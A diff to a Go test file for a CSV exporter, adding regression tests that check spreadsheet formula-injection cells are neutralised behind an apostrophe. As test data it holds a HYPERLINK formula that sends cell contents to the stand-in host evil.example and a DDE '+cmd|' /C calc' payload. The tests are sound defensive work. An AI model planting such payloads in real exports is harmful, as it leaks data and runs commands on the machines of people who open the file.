@@ -3,6 +3,7 @@ package export_test
 import (
 	"bytes"
 	"encoding/csv"
+	"fmt"
 	"strings"
 	"testing"
 	"time"
@@ -25,7 +26,19 @@ func TestText(t *testing.T) {
 		{"a=1", "a=1"},           // only the first character matters
 		{"'quoted", "'quoted"},   // already text
 		{"£310,000", "£310,000"}, // non-ASCII first byte is fine
-		{" =1", " =1"},
+		// Blanks before the formula do not stop a spreadsheet running it.
+		{" =1", "' =1"},
+		{"\n=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'\n=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
+		{"\r\n=1+1", "'\r\n=1+1"},
+		{"\n\n  \t+1", "'\n\n  \t+1"},
+		{"  -2+3", "'  -2+3"},
+		{"\n@SUM(A1:A9)", "'\n@SUM(A1:A9)"},
+		{"\u00a0=1", "'\u00a0=1"},             // a no-break space is blank too
+		{"\u200b\ufeff=1", "'\u200b\ufeff=1"}, // and so are invisible characters
+		{"\uff1d1+1", "'\uff1d1+1"},           // full-width =
+		{"\n", "\n"},
+		{"  Leeds", "  Leeds"},
+		{"\nLeeds = York", "\nLeeds = York"},
 	} {
 		if got := export.Text(tc.in); got != tc.want {
 			t.Errorf("Text(%q) = %q, want %q", tc.in, got, tc.want)
@@ -210,6 +223,66 @@ func TestOutcomeSummaryHeaderCoversEveryMetric(t *testing.T) {
 		}
 		if got, ok := domain.ParseMetric(h[i+1]); !ok || got != m {
 			t.Errorf("column %q reads back as %q, want %s", h[i+1], got, m)
+		}
+	}
+}
+
+// TestCSVExportsNeutraliseHostileCells: in both CSV exports, no text cell
+// can start a formula, whatever blanks come first: each hostile name or
+// title is written behind an apostrophe, and no cell, read back as a
+// spreadsheet reads it, has =, +, - or @ as its first non-blank character.
+// Before issue 11 "\n=HYPERLINK(…)" was written as it was.
+func TestCSVExportsNeutraliseHostileCells(t *testing.T) {
+	hostile := []string{
+		"\n=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+		"\r\n=HYPERLINK(\"http://evil.example\")",
+		" \t@SUM(A1:A9)",
+		"  +cmd|' /C calc'!A0",
+		"\n\n-2+3",
+		"\u00a0=1+1",
+	}
+	set := fixtureSet()
+	tot := domain.NewTotals()
+	set.Projects = nil
+	set.Grants = set.Grants[:0]
+	for i, h := range hostile {
+		id := fmt.Sprintf("01jhostile%016d", i)
+		set.Projects = append(set.Projects, domain.Project{ID: id, Name: h})
+		set.Funders = append(set.Funders, domain.Funder{ID: id, Name: h, OrgID: h})
+		set.Grants = append(set.Grants, domain.Grant{ID: id, FunderID: id, ProjectID: id, Title: h, AmountPence: 100,
+			Currency: "GBP", AwardDate: domain.MustDate("2025-01-01"), StartDate: domain.MustDate("2025-01-01"), EndDate: domain.MustDate("2025-12-31")})
+		tot.ByProject[id] = map[domain.Metric]int64{domain.MetricReferrals: 10}
+	}
+	var grants, summary bytes.Buffer
+	if err := export.GrantsCSV(&grants, set); err != nil {
+		t.Fatal(err)
+	}
+	if err := export.OutcomeSummaryCSV(&summary, export.OutcomeSet{Programme: set.Programme, Projects: set.Projects, Totals: tot}); err != nil {
+		t.Fatal(err)
+	}
+	for name, buf := range map[string]*bytes.Buffer{"grants.csv": &grants, "summary.csv": &summary} {
+		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		if len(rows) < len(hostile)+1 {
+			t.Fatalf("%s: %d rows", name, len(rows))
+		}
+		neutralised := 0
+		for _, row := range rows {
+			for _, cell := range row {
+				if first := strings.TrimLeft(cell, " \t\r\n\u00a0"); first != "" && strings.ContainsRune("=+-@", rune(first[0])) {
+					t.Errorf("%s: cell %q can run as a formula", name, cell)
+				}
+				for _, h := range hostile {
+					if cell == "'"+strings.ReplaceAll(h, "\r\n", "\n") || cell == "'"+h {
+						neutralised++
+					}
+				}
+			}
+		}
+		if want := map[string]int{"grants.csv": 4 * len(hostile), "summary.csv": len(hostile)}[name]; neutralised != want {
+			t.Errorf("%s: %d cells kept behind an apostrophe, want %d:\n%s", name, neutralised, want, buf.String())
 		}
 	}
 }
